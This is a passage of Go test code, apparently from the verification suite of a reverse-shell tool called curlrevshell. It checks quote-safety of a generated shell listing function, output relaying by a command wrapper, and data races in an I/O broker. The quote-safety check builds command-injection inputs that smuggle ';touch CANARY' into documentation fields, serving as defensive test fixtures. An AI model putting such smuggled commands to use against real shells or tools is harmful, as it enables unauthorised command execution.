					c18Judge(r, shell, cases[i], funcs[i-lo], o1[0], se, nil == cerr)
					if "" != strings.TrimSpace(se) {
						r.Violate(ev.Violation{Signature: "stderr/" + cases[i].Class, What: fmt.Sprintf("%s wrote to stderr for %q: %q", shell, cases[i].Lines, trunc80(se)), Kind: "c18", Replay: cases[i]})
					}
				}
				os.RemoveAll(dir)
				return
			}
			_, cerr := os.Stat(filepath.Join(dir, "CANARY"))
			if nil == cerr || "" != strings.TrimSpace(stderr) {
				/* Find the culprit(s) one by one. */
				os.Remove(filepath.Join(dir, "CANARY"))
				for i := lo; i < hi; i++ {
					o1, se, err := c18RunBatch(shell, dir, funcs[i-lo:i-lo+1])
					if nil != err {
						continue
					}
					_, cerr := os.Stat(filepath.Join(dir, "CANARY"))
					os.Remove(filepath.Join(dir, "CANARY"))
					c18Judge(r, shell, cases[i], funcs[i-lo], o1[0], se, nil == cerr)
					if "" != strings.TrimSpace(se) {
						r.Violate(ev.Violation{Signature: "stderr/" + cases[i].Class, What: fmt.Sprintf("%s wrote to stderr for %q: %q", shell, cases[i].Lines, trunc80(se)), Kind: "c18", Replay: cases[i]})
					}
				}
			} else {
				for i := lo; i < hi; i++ {
					c18Judge(r, shell, cases[i], funcs[i-lo], obs[i-lo], "", false)
				}
			}
			mu.Lock()
			r.Evaluations += hi - lo
			r.Distinct += hi - lo
			mu.Unlock()
			os.RemoveAll(dir)
		})
	}
	pass(cases, "")
	/* The generator in a UTF-8 locale (the operator's; the shells that run
	the function stay where they are): nothing about the listing depends on
	it.  Strings of <=3 symbols over quotes, a backslash, lead bytes that
	announce 2, 3 and 4 bytes, a continuation byte and a complete character;
	and the quote-breakers again. */
	for _, loc := range []string{"en_US.UTF-8", "C.utf8"} {
		var lcases []c18Case
		lalpha := []string{"'", "\\", "\xf0", "\xe2", "\xc3", "\x80", "é", " ", "a", ";"}
		var lrec func(prefix string, depth int)
		lrec = func(prefix string, depth int) {
			if "" != prefix {
				lcases = append(lcases,
					c18Case{Lines: []string{" " + prefix}, Class: "as-name", Locale: loc},
					c18Case{Lines: []string{" fn " + prefix}, Class: "as-description", Locale: loc},
					c18Case{Lines: []string{" fn x" + prefix + ";touch CANARY;echo '"}, Class: "before-a-command", Locale: loc},
				)
			}
			if 3 == depth {
				return
			}
			for _, s := range lalpha {
				lrec(prefix+s, depth+1)
			}
		}
		lrec("", 0)
		for _, c := range cases {
			if strings.HasPrefix(c.Class, "breaker-") {
				c.Locale = loc
				lcases = append(lcases, c)
			}
		}
		old, had := os.LookupEnv("LC_ALL")
		os.Setenv("LC_ALL", loc)
		pass(lcases, loc+"-")
		if had {
			os.Setenv("LC_ALL", old)
		} else {
			os.Unsetenv("LC_ALL")
		}
		r.Set("payloads_with_the_generator_in_"+loc, len(lcases))
	}
	c18FromSeam(r, base)
	c18Program(r, base)
	r.Sample(4, map[string]any{"doc_line": "# TABDOC: '\\''", "class": "breaker-name", "shells": "dash, bash"})
	r.Sample(4, map[string]any{"doc_line": "# TABDOC: fn $`(", "class": "as-description"})
	r.Sample(4, map[string]any{"doc_lines": menu[:3], "class": "row-set"})
	r.Assume("dash 0.5 and bash 5 of this image stand for 'a POSIX shell'; LC_ALL=C so that ${#a} counts bytes")
	r.Assume("the alphabet has no TAB/VT/FF/0xFF/CR, so every enumerated string is in the row-fidelity class as well as the quote-safety class")
}

func c18Replay(kind string, raw json.RawMessage) int {
	if "c18from" == kind {
		fmt.Println("findings of the Converter.From seam are replayed by re-running ./run C18 quick (the enumeration takes a second); the sources are in the artefact")
		return 2
	}
	var c c18Case
	if err := json.Unmarshal(raw, &c); nil != err {
		return 2
	}
	if strings.HasPrefix(c.Class, "from-seam") {
		fmt.Println("findings of the Converter.From seam are replayed by re-running ./run C18 quick; the sources are named in the artefact")
		return 2
	}
	if "" != c.Locale {
		os.Setenv("LC_ALL", c.Locale)
	}
	f, err := shellfuncsfile.GenFuncList(c.payload())
	fmt.Printf("payload:\n%s\nfunction:\n%s\nerr=%v\n", c.payload(), f, err)
	base := ev.Scratch("c18r-")
	defer os.RemoveAll(base)
	r := ev.New("C18", "quick", "exploration")
	for _, sh := range []string{"dash", "bash"} {
		obs, se, err := c18RunBatch(sh, base, [][]byte{f})
		if nil != err {
			fmt.Println(sh, "driver error:", err)
			return 1
		}
		_, cerr := os.Stat(filepath.Join(base, "CANARY"))
		fmt.Printf("%s: calls=%q junk=%q status=%d stderr=%q canary=%v\n", sh, obs[0].Calls, obs[0].Junk, obs[0].Status, se, nil == cerr)
		c18Judge(r, sh, c, f, obs[0], se, nil == cerr)
	}
	if r.NViolations() > 0 {
		fmt.Println("reproduced")
		return 1
	}
	fmt.Println("not reproduced")
	return 0
}

// c18FromSeam checks the listing where the program builds it: appended by
// Converter.From to what it made of its sources.  Every sequence of <=3
// sources over a menu (files with and without a filter, with and without a
// final newline, with a TABDOC line first / last / as a trailing comment, a
// directory) is converted with and without the listing; the listing must be
// the only difference, and its rows must be those of the TABDOC lines of the
// payload it was appended to.
func c18FromSeam(r *ev.Result, base string) {
	files := map[string]string{
		"a.sh":      "# TABDOC: a_sh from a.sh\na_sh() { :; }\n",
		"b.sh":      "b_sh() { :; }\n# TABDOC: b_sh at the end without newline",
		"c.txt":     "# TABDOC: c_txt raw file\nc_txt() { :; }\n",
		"d.txt":     "d_txt() { :; } # TABDOC: not_a_doc trailing comment\n# TABDOC: d_txt last line no newline",
		"e.txt":     "e_txt() { :; }\nx=1 # TABDOC: nor_this one",
		"dir/1.sh":  "# TABDOC: one in a directory\none() { :; }",
		"dir/2.txt": "# TABDOC: two (unfiltered) in a directory\ntwo() { :; }",
	}
	mfs := fstest.MapFS{"dir": &fstest.MapFile{Mode: os.ModeDir | 0o755}}
	for n, c := range files {
		mfs[n] = &fstest.MapFile{Data: []byte(c), Mode: 0o644}
	}
	menu := []string{"a.sh", "b.sh", "c.txt", "d.txt", "e.txt", "dir"}
	var seqs [][]string
	var rec func(cur []string)
	rec = func(cur []string) {
		if 0 != len(cur) {
			seqs = append(seqs, append([]string{}, cur...))
		}
		if 3 == len(cur) {
			return
		}
		for _, m := range menu {
			rec(append(cur, m))
		}
	}
	rec(nil)
	var (
		cases []c18Case
		funcs [][]byte
	)
	/* The converters: the default one, a zero-value one (documented as
	usable: no filters), and one default converter that is kept and used for
	every sequence in turn (the program keeps one for Ctrl+I) while the
	content of a file changes between its calls. */
	kept := shellfuncsfile.NewDefaultConverter()
	kept.FS = mfs
	kept.AddListFunction = true
	type job struct {
		kind string
		srcs []string
	}
	var jobs []job
	for _, kind := range []string{"default", "zero-value", "kept"} {
		for _, srcs := range seqs {
			jobs = append(jobs, job{kind, srcs})
		}
	}
	flip := 0
	for _, j := range jobs {
		srcs := j.srcs
		v := func(sig, what string) {
			r.Violate(ev.Violation{Signature: "from/" + sig + "/" + j.kind, What: fmt.Sprintf("%s converter, sources %q: %s", j.kind, srcs, what), Kind: "c18from", Replay: map[string]any{"sources": srcs, "converter": j.kind}})
		}
		mk := func() *shellfuncsfile.Converter {
			c := shellfuncsfile.NewDefaultConverter()
			if "zero-value" == j.kind {
				c = new(shellfuncsfile.Converter)
			}
			c.FS = mfs
			return c
		}
		if "kept" == j.kind {
			/* The kept converter has seen these very sources a moment
			ago; then a file of the directory is rewritten in place (same
			name, no modification time). */
			kept.From(srcs...)
			flip++
			mfs["dir/1.sh"] = &fstest.MapFile{Data: []byte(fmt.Sprintf("# TABDOC: one_%d rewritten %d times\none() { :; }", flip%3, flip%3)), Mode: 0o644}
		}
		plain := mk()
		p, err := plain.From(srcs...)
		if nil != err {
			v("conversion-failed", err.Error())
			continue
		}
		listed := mk()
		listed.AddListFunction = true
		if "kept" == j.kind {
			listed = kept
		}
		o, err := listed.From(srcs...)
		if nil != err {
			v("conversion-failed", err.Error())
			continue
		}
		if !bytes.HasPrefix(o, p) {
			v("payload-changed-by-listing", fmt.Sprintf("asking for the listing changed the payload itself: %q vs %q", trunc80(string(o)), trunc80(string(p))))
			continue
		}
		fn := bytes.TrimLeft(o[len(p):], "\n")
		if !bytes.HasPrefix(fn, []byte(shellfuncsfile.ListFuncName+"() {")) {
			v("listing-not-appended", fmt.Sprintf("what follows the payload is %q", trunc80(string(fn))))
			continue
		}
		/* The reference: the TABDOC lines of the payload as it is. */
		c := c18Case{Class: "from-seam/" + j.kind, Sources: srcs, Lines: []string{}}
		for _, l := range strings.Split(string(p), "\n") {
			if strings.HasPrefix(l, shellfuncsfile.DocPrefix) {
				c.Lines = append(c.Lines, strings.TrimPrefix(l, shellfuncsfile.DocPrefix))
			}
		}
		cases = append(cases, c)
		funcs = append(funcs, fn)
	}
	for _, shell := range []string{"dash", "bash"} {
		dir := filepath.Join(base, "from-"+shell)
		os.MkdirAll(dir, 0o755)
		obs, stderr, err := c18RunBatch(shell, dir, funcs)
		if nil != err || "" != strings.TrimSpace(stderr) {
			r.Violate(ev.Violation{Signature: "from/driver", What: fmt.Sprintf("%s could not run the listings made by Converter.From: %v %q", shell, err, trunc80(stderr)), Kind: "c18from", Replay: map[string]any{"sources": "all"}})
			continue
		}
		for i := range cases {
			c18Judge(r, shell, cases[i], funcs[i], obs[i], "", false)
		}
		r.Evaluations += len(cases)
		r.Distinct += len(cases)
	}
	r.Set("from_seam_source_sequences", len(jobs))
}

// c18Program: the payload `curlrevshell -print-ctrl-i` prints, with -ctrl-i
// given once and twice: the tab_list a shell ends up with (the last definition
// in the payload) lists the TABDOC lines of that whole payload.
func c18Program(r *ev.Result, base string) {
	bin := binPath("curlrevshell")
	if _, err := os.Stat(bin); nil != err {
		r.Set("program_print_ctrl_i", "not run: "+err.Error())
		return
	}
	root := filepath.Join(base, "program")
	dir := filepath.Join(root, "funcs")
	os.MkdirAll(dir, 0o755)
	defer os.RemoveAll(root)
	os.WriteFile(filepath.Join(dir, "a.sh"), []byte("# TABDOC: ports list listening ports\nports() { :; }\n# TABDOC: whoall who's logged in\nwhoall() { :; }\n"), 0o644)
	os.WriteFile(filepath.Join(root, "loot.sh"), []byte("# TABDOC: loot grab the goods\nloot() { :; }\n"), 0o644)
	var (
		cases []c18Case
		funcs [][]byte
	)
	for _, srcs := range [][]string{{dir}, {filepath.Join(root, "loot.sh")}, {dir, filepath.Join(root, "loot.sh")}, {filepath.Join(root, "loot.sh"), dir}} {
		args := []string{"-print-ctrl-i"}
		for _, s := range srcs {
			args = append(args, "-ctrl-i", s)
		}
		cmd := exec.Command(bin, args...)
		cmd.Env = append(os.Environ(), "HOME="+root, "CURLREVSHELL_LOG=")
		out, err := cmd.Output()
		if nil != err {
			r.Violate(ev.Violation{Signature: "program/print-ctrl-i-failed", What: fmt.Sprintf("curlrevshell %v: %v", args, err), Kind: "c18from", Replay: map[string]any{"sources": srcs}})
			continue
		}
		i := bytes.LastIndex(out, []byte(shellfuncsfile.ListFuncName+"() {"))
		if i < 0 {
			r.Violate(ev.Violation{Signature: "program/no-listing", What: fmt.Sprintf("curlrevshell %v: no %s in what was printed", args, shellfuncsfile.ListFuncName), Kind: "c18from", Replay: map[string]any{"sources": srcs}})
			continue
		}
		c := c18Case{Class: "program", Sources: srcs, Lines: []string{}}
		for _, l := range strings.Split(string(out), "\n") {
			if strings.HasPrefix(l, shellfuncsfile.DocPrefix) {
				c.Lines = append(c.Lines, strings.TrimPrefix(l, shellfuncsfile.DocPrefix))
			}
		}
		cases = append(cases, c)
		funcs = append(funcs, out[i:])
	}
	for _, shell := range []string{"dash", "bash"} {
		d := filepath.Join(base, "program-"+shell)
		os.MkdirAll(d, 0o755)
		obs, stderr, err := c18RunBatch(shell, d, funcs)
		if nil != err || "" != strings.TrimSpace(stderr) {
			r.Violate(ev.Violation{Signature: "program/driver", What: fmt.Sprintf("%s could not run the listings printed by the program: %v %q", shell, err, trunc80(stderr)), Kind: "c18from", Replay: map[string]any{"sources": "all"}})
			continue
		}
		for i := range cases {
			c18Judge(r, shell, cases[i], funcs[i], obs[i], "", false)
		}
		r.Evaluations += len(cases)
		r.Distinct += len(cases)
	}
	r.Set("program_print_ctrl_i_runs", len(cases))
}
