package checks

/*
 * The free-running -race pass of the broker scenarios.  The gated exploration
 * hands the lock from goroutine to goroutine itself, and those hand-offs are
 * happens-before edges that blind the race detector; so the same kinds of
 * scenario are also run without any gate, many times, under -race, only to
 * let the detector look at accesses that escape the broker's lock.  This is a
 * complement (it samples schedules); it decides nothing else.
 */

import (
	"context"
	"fmt"
	"io"
	"log/slog"
	"strings"
	"sync"

	"github.com/magisterquis/curlrevshell/internal/iobroker"
	"github.com/magisterquis/curlrevshell/lib/opshell"
	"github.com/magisterquis/curlrevshell/verifx/ev"
	"github.com/magisterquis/curlrevshell/verifx/hworld"
)

func init() {
	workers["brokerrace"] = func([]string) int {
		n := 0
		for round := 0; round < 300; round++ {
			ich := make(chan string, 64)
			och := make(chan opshell.CLine, 1024)
			b, err := hworld.NewBroker(ich, och)
			if nil != err {
				return 2
			}
			evl := make(chan iobroker.Event, 1024)
			b.AddEventListener(evl)
			ctx, cancel := context.WithCancel(context.Background())
			var wg sync.WaitGroup
			wg.Add(1)
			go func() { defer wg.Done(); b.Do(ctx) }()
			go func() {
				for range och {
				}
			}()
			sl := slog.New(slog.NewTextHandler(io.Discard, nil))
			conn := func(kind, key string, cctx context.Context) {
				defer wg.Done()
				pr, pw := io.Pipe()
				go func() {
					for i := 0; i < 3; i++ {
						fmt.Fprintf(pw, "out %d\n", i)
					}
					if 0 == round%2 {
						pw.Close()
					} else {
						<-cctx.Done()
						pw.Close()
					}
				}()
				var sb strings.Builder
				w := &lockedWriter{w: &sb}
				switch kind {
				case "in":
					b.ConnectIn(cctx, sl, "a", w, key)
				case "out":
					b.ConnectOut(cctx, sl, "a", pr, key)
				default:
					b.ConnectInOut(cctx, sl, "a", w, pr)
				}
				pr.Close()
			}
			kinds := [][2]string{{"in", "k"}, {"out", "k"}, {"io", ""}, {"in", "kk"}, {"out", "k"}, {"io", ""}}
			cctx, ccancel := context.WithCancel(ctx)
			for i, k := range kinds {
				if i >= 3+round%4 {
					break
				}
				wg.Add(1)
				go conn(k[0], k[1], cctx)
			}
			for i := 0; i < 3; i++ {
				ich <- fmt.Sprintf("line %d", i)
			}
			if 0 == round%3 {
				ccancel()
			}
			cancel()
			ccancel()
			wg.Wait()
			close(och)
			n++
		}
		fmt.Printf("brokerrace: %d free-running rounds, no race reported\n", n)
		return 0
	}
}

type lockedWriter struct {
	mu sync.Mutex
	w  io.Writer
}

func (l *lockedWriter) Write(p []byte) (int, error) {
	l.mu.Lock()
	defer l.mu.Unlock()
	return l.w.Write(p)
}

// brokerRacePass runs the free-running pass (thorough tier) and reports a
// data race as a violation.
func brokerRacePass(r *ev.Result) {
	out, err := runRaceWorker("brokerrace")
	r.Set("race_pass", strings.TrimSpace(trunc80(out)))
	if nil != err {
		r.Violate(ev.Violation{Signature: "data-race", What: "the free-running -race pass over broker scenarios reports: " + out, Kind: "race", Replay: map[string]string{"race": "brokerrace"}})
	}
}
