package checks

/*
 * C14 — simpleshell relays everything the wrapped command writes before
 * reporting EOF.  The real CmdShell wraps a helper child (this binary) which
 * writes N position-stamped bytes to stdout / stderr / both, optionally after
 * echoing its stdin, and exits with a chosen status.  The one scheduling
 * choice that matters — how much the consumer has read when the child is gone
 * (or is stuck in write) — is owned: the consumer reads r bytes, waits until
 * /proc shows the child finished or blocked, optionally pauses, then drains.
 */

import (
	"bytes"
	"context"
	"encoding/json"
	"fmt"
	"io"
	"os"
	"os/exec"
	"strconv"
	"strings"
	"sync"
	"syscall"
	"time"

	"github.com/magisterquis/curlrevshell/lib/simpleshell"
	"github.com/magisterquis/curlrevshell/verifx/ev"
)

func init() {
	registry["C14"] = checkDef{level: "exploration", run: c14, replay: c14Replay}
	workers["c14child"] = c14Child
}

// stamp returns n bytes whose content depends on the position and tag.
func c14Stamp(tag byte, n int) []byte {
	b := make([]byte, n)
	for i := range b {
		switch i % 8 {
		case 0:
			b[i] = tag
		case 7:
			b[i] = '\n'
		case 6:
			if 'I' == tag {
				b[i] = '\r' /* Input carries CR LF pairs (a DOS here-document, a binary upload). */
				break
			}
			fallthrough
		default:
			b[i] = "0123456789"[(i/8/pow10(6-i%8))%10]
		}
	}
	return b
}

// c14Dressed is c14Stamp in another dress: "binary" sets the high bit of
// every digit (no valid UTF-8 anywhere), "utf8" is the tag followed by
// two-byte characters (so that every even offset lies inside one).
func c14Dressed(tag byte, n int, dress string) []byte {
	b := c14Stamp(tag, n)
	switch dress {
	case "binary":
		for i := range b {
			if b[i] >= '0' && b[i] <= '9' {
				b[i] |= 0x80
			}
		}
	case "utf8":
		for i := 1; i < n; i++ {
			b[i] = []byte{0xa9, 0xc3}[i%2]
		}
		if n > 1 && 0 == n%2 {
			b[n-1] = '\n'
		}
	}
	return b
}

func pow10(k int) int {
	n := 1
	for ; k > 0; k-- {
		n *= 10
	}
	return n
}

// c14Child: c14child <n> <stdout|stderr|both> <exit status> <echo|noecho>
func c14Child(args []string) int {
	n, _ := strconv.Atoi(args[0])
	st, _ := strconv.Atoi(args[2])
	dress := ""
	if len(args) > 4 {
		dress = args[4]
	}
	first := 0
	if len(args) > 5 {
		first, _ = strconv.Atoi(args[5])
	}
	/* write: the first `first` bytes in a write of their own (a short
	banner, then the bulk), the rest in one. */
	write := func(f *os.File, b []byte) {
		if first > 0 && first < len(b) {
			f.Write(b[:first])
			b = b[first:]
			if len(args) > 6 {
				us, _ := strconv.Atoi(args[6])
				time.Sleep(time.Duration(us) * time.Microsecond)
			}
		}
		f.Write(b)
	}
	if "echo" == args[3] {
		io.Copy(os.Stdout, os.Stdin)
	}
	if st < 0 {
		/* Die by a signal after writing. */
		defer func() {
			syscall.Kill(os.Getpid(), syscall.Signal(-st))
			select {}
		}()
	}
	switch args[1] {
	case "stdout":
		write(os.Stdout, c14Dressed('O', n, dress))
	case "stderr":
		write(os.Stderr, c14Dressed('E', n, dress))
	case "both":
		/* Alternate in 4 KiB pieces; per-stream order is what counts. */
		o, e := c14Stamp('O', n), c14Stamp('E', n)
		for len(o) > 0 || len(e) > 0 {
			k := min(4096, len(o))
			os.Stdout.Write(o[:k])
			o = o[k:]
			k = min(4096, len(e))
			os.Stderr.Write(e[:k])
			e = e[k:]
		}
	}
	return st
}

type c14Case struct {
	N      int    `json:"bytes"`
	FD     string `json:"descriptor"`
	ReadR  int    `json:"read_before_child_is_done"`
	Pause  int    `json:"pause_ms_before_draining"`
	Input  string `json:"input"` /* empty | echo:<bytes> | open */
	Status int    `json:"exit_status"`
	/* Dress: see c14Dressed (single streams only).  Locale: the LC_ALL of
	the process that runs the shell. */
	Dress  string `json:"dress,omitempty"`
	Locale string `json:"locale,omitempty"`
	/* FirstWrite: the command writes that many bytes first, then the rest
	in one write (single streams only). */
	FirstWrite int `json:"first_write,omitempty"`
	GapUs      int `json:"gap_us_after_first_write,omitempty"`
}

// childState reports where the child is: "gone", "zombie", "blocked"
// (sleeping in a write), or "running".
func c14ChildState(pid int) string {
	b, err := os.ReadFile(fmt.Sprintf("/proc/%d/stat", pid))
	if nil != err {
		return "gone"
	}
	s := string(b)
	i := strings.LastIndexByte(s, ')')
	if i < 0 || i+2 >= len(s) {
		return "running"
	}
	switch s[i+2] {
	case 'Z', 'X':
		return "zombie"
	}
	/* Blocked in write(2)?  The write may sit on any thread of the child
	(it is a Go program too), so look at all of them. */
	tasks, _ := os.ReadDir(fmt.Sprintf("/proc/%d/task", pid))
	for _, t := range tasks {
		sc, _ := os.ReadFile(fmt.Sprintf("/proc/%d/task/%s/syscall", pid, t.Name()))
		if strings.HasPrefix(string(sc), "1 ") { /* write(2) on x86-64 */
			st, _ := os.ReadFile(fmt.Sprintf("/proc/%d/task/%s/stat", pid, t.Name()))
			if j := strings.LastIndexByte(string(st), ')'); j >= 0 && j+2 < len(st) && ('S' == st[j+2] || 'D' == st[j+2]) {
				return "blocked"
			}
		}
	}
	return "running"
}

// c14Run executes one case and returns a problem description, or "".
func c14Run(c c14Case) (sig, what string) {
	self, err := os.Executable()
	if nil != err {
		return "", ""
	}
	echo := "noecho"
	var input []byte
	if strings.HasPrefix(c.Input, "echo:") {
		echo = "echo"
		k, _ := strconv.Atoi(strings.TrimPrefix(c.Input, "echo:"))
		input = c14Stamp('I', k)
	}
	cmd := exec.Command(self, "worker", "c14child", strconv.Itoa(c.N), c.FD, strconv.Itoa(c.Status), echo, c.Dress, strconv.Itoa(c.FirstWrite), strconv.Itoa(c.GapUs))
	sh, err := simpleshell.NewCmdShell(cmd)
	if nil != err {
		return "new-cmdshell", err.Error()
	}
	var openW *io.PipeWriter
	switch {
	case "open" == c.Input:
		var pr *io.PipeReader
		pr, openW = io.Pipe()
		sh.SetInput(pr)
	default:
		sh.SetInput(bytes.NewReader(input))
	}
	out := sh.Output()
	goErr := make(chan error, 1)
	go func() { goErr <- sh.Go(context.Background()) }()

	var got bytes.Buffer
	readN := func(n int) error {
		buf := make([]byte, 32*1024)
		for n > 0 {
			k, err := out.Read(buf[:min(n, len(buf))])
			got.Write(buf[:k])
			n -= k
			if nil != err {
				return err
			}
		}
		return nil
	}
	var rerr error
	if c.ReadR > 0 {
		rerr = readN(c.ReadR)
	}
	/* Let the child get as far as it can: state observation, not a sleep. */
	deadline := time.Now().Add(30 * time.Second)
	for nil == cmd.Process {
		if time.Now().After(deadline) {
			return "child-never-started", "cmd.Process stayed nil"
		}
		time.Sleep(200 * time.Microsecond)
	}
	state := ""
	for {
		state = c14ChildState(cmd.Process.Pid)
		if "running" != state {
			break
		}
		if time.Now().After(deadline) {
			/* The observation only chooses the moment to drain; not being
			able to make it is no verdict about the program. */
			state = "unknown"
			break
		}
		time.Sleep(200 * time.Microsecond)
	}
	if c.Pause > 0 {
		time.Sleep(time.Duration(c.Pause) * time.Millisecond)
	}
	/* Drain.  The stream must end by itself once the command is gone and
	its output read, also while the input is still open. */
	if nil == rerr {
		drained := make(chan error, 1)
		go func() { _, err := io.Copy(&got, out); drained <- err }()
		select {
		case rerr = <-drained:
		case <-time.After(30 * time.Second):
			if nil != openW {
				openW.Close()
			}
			return "output-never-ends", fmt.Sprintf("the command is gone (%s) and %d bytes were read, but the output stream did not end within 30 s (input still open: %v)", state, got.Len(), nil != openW)
		}
	}
	if nil != openW {
		openW.Close()
	}
	var gerr error
	select {
	case gerr = <-goErr:
	case <-time.After(30 * time.Second):
		return "go-never-returns", "CmdShell.Go did not return after its output ended and its input closed"
	}
	/* Per-stream order and completeness. */
	want := map[byte][]byte{}
	if "echo" == echo {
		want['I'] = input
	}
	switch c.FD {
	case "stdout":
		want['O'] = c14Dressed('O', c.N, c.Dress)
	case "stderr":
		want['E'] = c14Dressed('E', c.N, c.Dress)
	case "both":
		want['O'], want['E'] = c14Stamp('O', c.N), c14Stamp('E', c.N)
	}
	streams := map[byte][]byte{}
	all := got.Bytes()
	/* Each 8-byte record starts with its stream's tag; records of one
	stream are written whole (sizes are multiples of 8 or the tail). */
	totalWant := 0
	for _, wv := range want {
		totalWant += len(wv)
	}
	if len(all) != totalWant {
		return "bytes-lost", fmt.Sprintf("%d bytes were written before the command exited, %d arrived before the stream ended (child state when draining began: %s, read error %v, Go error %v)", totalWant, len(all), state, rerr, gerr)
	}
	if 1 == len(want) {
		for tag, wv := range want {
			streams[tag] = all
			if !bytes.Equal(all, wv) {
				return "bytes-corrupted", fmt.Sprintf("the %c stream differs from what was written (first difference at %d)", tag, firstDiff(all, wv))
			}
		}
	} else {
		/* Demultiplex by record tag (writes are in whole 4 KiB pieces,
		each a multiple of 8 bytes, so records stay whole unless a
		stream's total is not a multiple of 8, which the sizes used with
		several streams avoid). */
		for i := 0; i+8 <= len(all); i += 8 {
			streams[all[i]] = append(streams[all[i]], all[i:i+8]...)
		}
		for tag, wv := range want {
			if !bytes.Equal(streams[tag], wv) {
				return "bytes-corrupted", fmt.Sprintf("the %c stream differs from what was written (got %d bytes, want %d, first difference at %d)", tag, len(streams[tag]), len(wv), firstDiff(streams[tag], wv))
			}
		}
	}
	if nil != rerr && io.EOF != rerr && !strings.Contains(rerr.Error(), "closed") {
		/* EOF vs. error as the terminal condition is not fixed by the statement. */
	}
	if 0 == c.Status && nil != gerr {
		return "success-reported-as-error", fmt.Sprintf("the command exited 0 but Go returned %v", gerr)
	}
	if 0 != c.Status && nil == gerr {
		return "failure-not-reported", fmt.Sprintf("the command exited %d but Go returned nil", c.Status)
	}
	return "", ""
}

func firstDiff(a, b []byte) int {
	for i := 0; i < len(a) && i < len(b); i++ {
		if a[i] != b[i] {
			return i
		}
	}
	return min(len(a), len(b))
}

func c14(r *ev.Result, tier string) {
	quick := isQuick(tier)
	sizes := []int{0, 8, 4096, 32768, 32776, 65536, 65544, 98304, 200000}
	fds := []string{"stdout", "stderr", "both"}
	inputs := []string{"empty", "echo:1024", "echo:102400", "open"}
	statuses := []int{0, 3}
	if quick {
		fds = []string{"stdout", "both"}
		inputs = []string{"empty", "echo:102400", "open"}
	}
	var cases []c14Case
	for _, n := range sizes {
		for _, fd := range fds {
			for _, in := range inputs {
				for _, st := range statuses {
					rs := map[int]bool{0: true, 8: true, 4096: true, 32768: true, n - 8: true, n: true}
					for rr := range rs {
						if rr < 0 || rr > n || (quick && 4096 == rr) {
							continue
						}
						if "both" == fd && 0 != rr {
							continue /* r counts bytes of the merged stream; keep that axis for single streams */
						}
						if quick && 3 == st && "empty" != in {
							continue
						}
						cases = append(cases, c14Case{N: n, FD: fd, ReadR: rr, Input: in, Status: st})
					}
				}
			}
		}
	}
	/* A consumer that pauses after the child is gone (longer than any
	"give up on the pipes" delay a rewrite might introduce). */
	/* A command that dies by a signal is an unsuccessful exit too. */
	for _, sig := range []int{-9, -15} { /* (not SIGSEGV: the Go runtime of the helper child would print a trace of its own) */
		cases = append(cases, c14Case{N: 4096, FD: "stdout", ReadR: 0, Input: "empty", Status: sig})
		cases = append(cases, c14Case{N: 8, FD: "stderr", ReadR: 8, Input: "open", Status: sig})
	}
	for _, n := range []int{32776, 60000, 65544, 200000} {
		for _, p := range []int{300, 1500} {
			if quick && 1500 == p && 60000 != n {
				continue
			}
			cases = append(cases, c14Case{N: n, FD: "stdout", ReadR: 8, Pause: p, Input: "empty", Status: 0})
			cases = append(cases, c14Case{N: n, FD: "stderr", ReadR: 0, Pause: p, Input: "open", Status: 0})
		}
	}
	/* Output that does not end in a newline (the stamps put one at every
	eighth byte): an unterminated tail is output too. */
	for _, n := range []int{5, 4099, 32771, 65541} {
		for _, fd := range []string{"stdout", "stderr"} { /* (the merged stream is told apart by whole 8-byte records) */
			cases = append(cases, c14Case{N: n, FD: fd, ReadR: 0, Input: "empty", Status: 0})
			cases = append(cases, c14Case{N: n, FD: fd, ReadR: 0, Input: "open", Status: 3})
		}
	}
	/* A short piece, then at once a long one, on the same descriptor (a
	banner and the bulk; echo ---; cat big): per-stream order. */
	for _, n := range []int{4096 + 8, 65536 + 8, 200000} {
		for _, fd := range []string{"stdout", "stderr"} {
			for _, fw := range []int{8, 24, 4088} {
				for _, gap := range []int{0, 300, 1500, 20000} {
					cases = append(cases, c14Case{N: n, FD: fd, ReadR: 0, Input: "empty", Status: 0, FirstWrite: fw, GapUs: gap})
					cases = append(cases, c14Case{N: n, FD: fd, ReadR: 0, Input: "open", Status: 3, FirstWrite: fw, GapUs: gap})
				}
			}
		}
	}
	/* Large inputs through the child, back to back. */
	for _, k := range []int{32768, 32776, 300000, 1 << 20} {
		cases = append(cases, c14Case{N: 8, FD: "stdout", ReadR: 0, Input: "echo:" + strconv.Itoa(k), Status: 0})
	}
	r.Rule = fmt.Sprintf("grid: output sizes %v x descriptor %v x bytes read before the child is gone/blocked {0, 8, 4096, 32768, N-8, N} x input %v x exit status %v, plus pausing consumers and inputs up to 1 MiB; "+
		"the child is this binary writing position-stamped bytes; 'child is gone or blocked' is read from /proc/<pid>/stat and /proc/<pid>/syscall; distinct = distinct grid points", sizes, fds, inputs, statuses)
	var mu sync.Mutex
	parallel(len(cases), func(i int) {
		c := cases[i]
		sig, what := c14Run(c)
		mu.Lock()
		r.Evaluations++
		r.Distinct++
		mu.Unlock()
		if "" != sig {
			cls := "small"
			if c.N > 32768 {
				cls = "over-32KiB"
			}
			r.Violate(ev.Violation{Signature: sig + "/" + c.FD + "/" + cls, What: fmt.Sprintf("%+v: %s", c, what), Kind: "c14", Replay: c})
		}
	})
	/* Output that is not text, or text whose characters straddle every read
	boundary; and the same with the operator's locale saying UTF-8: the
	bytes are the command's, not the shell's to interpret. */
	var dressed []c14Case
	for _, n := range []int{8, 4099, 32776, 200001} {
		for _, fd := range []string{"stdout", "stderr"} {
			for _, dress := range []string{"binary", "utf8"} {
				dressed = append(dressed, c14Case{N: n, FD: fd, ReadR: 0, Input: "empty", Status: 0, Dress: dress})
				dressed = append(dressed, c14Case{N: n, FD: fd, ReadR: 8, Input: "open", Status: 3, Dress: dress})
			}
		}
	}
	for _, loc := range []string{"", "en_US.UTF-8", "C.UTF-8"} {
		old, had := os.LookupEnv("LC_ALL")
		if "" != loc {
			os.Setenv("LC_ALL", loc)
		}
		parallel(len(dressed), func(i int) {
			c := dressed[i]
			c.Locale = loc
			sig, what := c14Run(c)
			mu.Lock()
			r.Evaluations++
			r.Distinct++
			mu.Unlock()
			if "" != sig {
				if "" != loc {
					sig += "/LC_ALL=" + loc
				}
				r.Violate(ev.Violation{Signature: sig + "/" + c.FD + "/" + c.Dress, What: fmt.Sprintf("%+v: %s", c, what), Kind: "c14", Replay: c})
			}
		})
		if had {
			os.Setenv("LC_ALL", old)
		} else {
			os.Unsetenv("LC_ALL")
		}
	}
	r.Set("dressed_cases_per_locale", len(dressed))
	r.Sample(4, cases[len(cases)/2])
	r.Sample(4, cases[len(cases)-1])
